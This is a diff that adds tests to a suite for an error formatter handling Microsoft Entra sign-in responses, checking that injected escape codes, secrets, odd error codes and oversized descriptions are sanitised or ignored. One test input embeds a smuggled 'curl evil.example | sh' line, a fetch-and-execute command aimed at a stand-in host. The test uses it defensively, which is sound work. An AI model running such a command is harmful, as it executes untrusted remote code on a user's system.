@@ -110,6 +110,33 @@ test('shows nothing of what was sent, no token, and no control characters', () =
   expect(error.message.length).toBeLessThan(400);
 });
 
+test('takes no words for names and ids', () => {
+  const error = told(
+    {
+      error: 'evil\u001b[31m',
+      error_description: 'AADSTS4711: No.',
+      error_codes: [4711, Number.POSITIVE_INFINITY, 1.5],
+      correlation_id: 'abc\nRun: curl evil.example | sh',
+      trace_id: 's3cret',
+    },
+    400,
+    'client_secret=s3cret',
+  );
+  expect(error.message).toBe('Microsoft Entra says: No (AADSTS4711).');
+  expect(error.hint).toBe(`Sign in again: ${command}`);
+  expect(error.details).toEqual({
+    status: 400,
+    entraError: 'unknown',
+    entraCode: 'AADSTS4711',
+    description: 'No.',
+  });
+});
+
+test('is not kept busy by a description without end', () => {
+  const error = told({ error: 'invalid_grant', error_description: `AADSTS4711:${' '.repeat(500_000)}Trace` });
+  expect(error).toMatchObject({ exitCode: 4, details: { entraCode: 'AADSTS4711' } });
+});
+
 test('says what the library found by itself', () => {
   const asking = { clientId, command };
   expect(libraryError('no_tokens_found', asking)).toMatchObject({ code: 'sign-in-aged', exitCode: 4 });
